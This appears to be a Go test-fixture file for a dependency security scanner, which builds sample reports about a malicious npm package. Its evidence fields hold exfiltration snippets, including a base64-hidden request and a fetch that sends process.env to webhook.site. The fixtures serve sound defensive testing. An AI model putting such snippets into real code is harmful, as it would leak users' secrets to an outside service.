// Package reporttest provides fixed report.Result values for the golden
// tests of the output formats (internal/report/*). Times are fixed so that
// output is byte-for-byte stable.
package reporttest

import (
	"fmt"
	"time"

	"github.com/depfence/depfence/internal/finding"
	"github.com/depfence/depfence/internal/report"
)

// StartedAt is the fixed start time of Sample.
var StartedAt = time.Date(2026, 12, 4, 10, 0, 0, 0, time.UTC)

func mk(rule string, sev finding.Severity, pkg finding.Package, msg, file string, line int, ev ...finding.Evidence) finding.Finding {
	f := finding.Finding{Rule: finding.RuleID(rule), RuleVersion: 1, Package: pkg, Severity: sev,
		Confidence: finding.ConfidenceHigh, Message: msg, Location: finding.Location{File: file, Line: line}, Evidence: ev}
	f.Fingerprint = f.ComputeFingerprint()
	return f
}

// Sample returns a fresh result with a malicious package (two findings), an
// accepted finding, a known vulnerability with its advisory, a scoped dev
// package with a pre-release version and a credential in its URL, a package
// that could not be analysed and a stale acceptance.
func Sample() *report.Result {
	evil := finding.Package{Name: "evil-helper", Version: "1.0.1"}
	ok := finding.Package{Name: "left-pad", Version: "1.3.0"}
	lodash := finding.Package{Name: "lodash", Version: "4.17.20"}
	r := &report.Result{
		SchemaVersion: report.SchemaVersion,
		Tool:          report.Tool{Name: "depfence", Version: "test"},
		StartedAt:     StartedAt, FinishedAt: StartedAt.Add(2 * time.Second),
		Project: report.Project{Dir: "demo", Lockfile: "demo/package-lock.json", LockfileFormat: "npm lockfileVersion 3",
			Registry: "https://registry.npm.local/", PublicRegistryHosts: []string{"registry.npm.local"}},
		Packages: []report.Package{
			{Name: "@scope/pkg", Version: "2.0.0-beta.1+build.5", Source: "registry",
				URL:       "https://user:s3cret@npm.example.com/@scope/pkg/-/pkg-2.0.0-beta.1.tgz?token=abc",
				Integrity: "sha1-2jmj7l5rSw0yVb/vlWAYkK/YBwk= sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUdBeoGlODJ6+SfaPg==",
				Dev:       true, Direct: true, Path: []string{".", "@scope/pkg@2.0.0-beta.1+build.5"}, LockfileLine: 12,
				Status: report.StatusAnalysed, Verdict: "ok"},
			{Name: "broken", Version: "0.0.1", Source: "registry", Status: report.StatusNotAnalysed, StatusReason: "tarball: integrity mismatch"},
			{Name: "evil-helper", Version: "1.0.1", Source: "registry", Direct: true, Path: []string{".", "evil-helper@1.0.1"},
				URL:          "https://registry.npm.local/evil-helper/-/evil-helper-1.0.1.tgz",
				LockfileLine: 40, Status: report.StatusAnalysed, Verdict: "malicious", Score: 97,
				Chain: []string{"runs at install (postinstall: node setup.js)", "reads all of process.env", "sends it to webhook.site"}},
			{Name: "express", Version: "4.21.2", Source: "registry", Direct: true, Path: []string{".", "express@4.21.2"},
				URL:          "https://registry.npm.local/express/-/express-4.21.2.tgz",
				Integrity:    "sha512-28HqgMZAmih1Czt9ny7qr6ek2qddF4FclbMzwhCREB6OFfH+rXAnuNCwo1/wFvrtbgsQDb4kSbX9de9lFbrXnA==",
				LockfileLine: 55, Status: report.StatusAnalysed, Verdict: "ok",
				DependsOn: []string{"left-pad@1.3.0", "lodash@4.17.20"}},
			{Name: "left-pad", Version: "1.3.0", Source: "registry", Path: []string{".", "express@4.21.2", "left-pad@1.3.0"},
				URL:          "https://registry.npm.local/left-pad/-/left-pad-1.3.0.tgz",
				Integrity:    "sha512-XI5MPzVNApjAyhQzphX8BkmKsKUxD4LdyK24iZeQEFhw9eHsuHb7fheTkMF5Y/LS9SI1xfYY9I0Ii6HM8Gkq6A==",
				LockfileLine: 77, Status: report.StatusAnalysed, Verdict: "ok"},
			{Name: "lodash", Version: "4.17.20", Source: "registry", Path: []string{".", "express@4.21.2", "lodash@4.17.20"},
				URL:          "https://registry.npm.local/lodash/-/lodash-4.17.20.tgz",
				Integrity:    "sha512-PlhdFcillOINfeV7Ni6oF1TAEayyZBoZ8bcshTHqOYJYlrqzRK5hagpagky5o4HfCzzd1TRkXPMFq6cKk9rGmA==",
				LockfileLine: 90, Status: report.StatusAnalysed, Verdict: "ok"},
		},
		Findings: []report.Finding{
			{Finding: mk("net/exfil-service", finding.SeverityCritical, evil, "Sends data to a known exfiltration service (webhook.site)", "setup.js", 12,
				finding.Evidence{Snippet: `https.request(Buffer.from("aHR0cHM6Ly93ZWJob29rLnNpdGUveA==","base64").toString())`, Decoded: `https://webhook.site/x`}),
				Title: "Exfiltration service", Remediation: "Remove the package and rotate any secret the install could read.", Decision: report.DecisionFail,
				Path: []string{".", "evil-helper@1.0.1"}, LockfileLine: 40},
			{Finding: mk("vuln/advisory", finding.SeverityHigh, lodash, "Command injection in lodash (GHSA-35jh-r3h4-6jhm)", "", 0,
				finding.Evidence{Detail: "vulnerable <4.17.21, patched in 4.17.21"}),
				Title: "Known vulnerability", Remediation: "Upgrade lodash to 4.17.21 or later.", Decision: report.DecisionExpired,
				Acceptance: &report.Acceptance{Package: "lodash@4.17.20", Rule: "vuln/*", Reason: "not reachable from our code", Expires: "2026-11-30"},
				Path:       []string{".", "express@4.21.2", "lodash@4.17.20"}, LockfileLine: 90,
				Advisory: &report.Advisory{ID: "GHSA-35jh-r3h4-6jhm", Aliases: []string{"CVE-2021-23337"}, Source: "npm",
					URL: "https://github.com/advisories/GHSA-35jh-r3h4-6jhm", Vulnerable: "<4.17.21", Patched: "4.17.21",
					CVSSScore: 7.2, CVSSVector: "CVSS:3.1/AV:N/AC:L/PR:H/UI:N/S:U/C:H/I:H/A:H", CWEs: []string{"CWE-77", "CWE-94"}}},
			{Finding: mk("install/lifecycle-script", finding.SeverityMedium, evil, "Runs a postinstall script: node setup.js", "package.json", 0,
				finding.Evidence{Snippet: "node setup.js"}), Decision: report.DecisionWarn, LockfileLine: 40, Path: []string{".", "evil-helper@1.0.1"}},
			{Finding: mk("code/dynamic-eval", finding.SeverityLow, ok, "Builds code at run time with Function()", "index.js", 3), Decision: report.DecisionAccepted,
				Acceptance: &report.Acceptance{Package: "left-pad@1.3.0", Rule: "code/*", Reason: "reviewed: template compiler", Expires: "2027-01-31", AcceptedBy: "alice"},
				Path:       []string{".", "express@4.21.2", "left-pad@1.3.0"}, LockfileLine: 77},
		},
		Rules: []report.Rule{
			{ID: "net/exfil-service", Version: 1, Title: "Exfiltration service", Help: "The package contacts a service attackers use to receive stolen data.",
				Remediation: "Remove the package and rotate any secret the install could read.", DefaultSeverity: finding.SeverityHigh},
			{ID: "vuln/advisory", Version: 1, Title: "Known vulnerability", Help: "A published advisory covers this version.", DefaultSeverity: finding.SeverityMedium,
				DocURL: "https://example.com/docs/rules/vuln-advisory"},
			{ID: "install/lifecycle-script", Version: 1, Title: "Install script", Help: "The package runs code when installed.", DefaultSeverity: finding.SeverityMedium},
			{ID: "code/dynamic-eval", Version: 1, Title: "Dynamic code", Help: "eval or Function with non-constant input.", DefaultSeverity: finding.SeverityLow},
		},
		Policy: report.Policy{File: "depfence.yaml", FailOn: finding.SeverityHigh, Stale: []report.Acceptance{{Package: "lodash@<4.17.21", Rule: "vuln/*", Reason: "old"}}},
		Errors: []report.Error{{Package: "broken@0.0.1", Stage: "fetch", Message: "integrity mismatch: lockfile sha512-AAA…, tarball sha512-BBB…"}},
	}
	r.Summary = report.Summary{Packages: 6, Analysed: 5, NotAnalysed: 1,
		Findings: map[string]int{"critical": 1, "high": 1, "medium": 1, "low": 1}, Accepted: 1,
		Verdicts: map[string]int{"malicious": 1, "ok": 4}, Failed: true,
		FailReasons: []string{"2 findings at or above high", "1 acceptance expired"}}
	return r
}

// Large returns a result with n packages (a chain of dependencies, each
// with an integrity and a lockfile line) and, for every tenth package, two
// findings with evidence: an input for benchmarks.
func Large(n int) *report.Result {
	r := Sample()
	r.Packages, r.Findings = nil, nil
	const integrity = "sha512-XI5MPzVNApjAyhQzphX8BkmKsKUxD4LdyK24iZeQEFhw9eHsuHb7fheTkMF5Y/LS9SI1xfYY9I0Ii6HM8Gkq6A=="
	for k := 0; k < n; k++ {
		name := fmt.Sprintf("pkg-%05d", k)
		p := report.Package{Name: name, Version: "1.0.0", Source: "registry", Integrity: integrity,
			URL:  "https://registry.npm.local/" + name + "/-/" + name + "-1.0.0.tgz",
			Path: []string{".", name + "@1.0.0"}, LockfileLine: 10 + 12*k, Status: report.StatusAnalysed, Verdict: "ok"}
		if k+1 < n {
			p.DependsOn = []string{fmt.Sprintf("pkg-%05d@1.0.0", k+1)}
		}
		if k%10 == 0 {
			p.Verdict = "suspicious"
			pkg := finding.Package{Name: name, Version: "1.0.0"}
			for _, rule := range []string{"net/exfil-service", "install/lifecycle-script"} {
				r.Findings = append(r.Findings, report.Finding{
					Finding: mk(rule, finding.SeverityHigh, pkg, "Sends data to a known exfiltration service (webhook.site)", "lib/index.js", k+1,
						finding.Evidence{Snippet: `fetch("https://webhook.site/" + JSON.stringify(process.env))`, Decoded: "https://webhook.site/…"}),
					Decision: report.DecisionFail, Path: p.Path, LockfileLine: p.LockfileLine})
			}
		}
		r.Packages = append(r.Packages, p)
	}
	r.Summary.Packages, r.Summary.Analysed = n, n
	return r
}
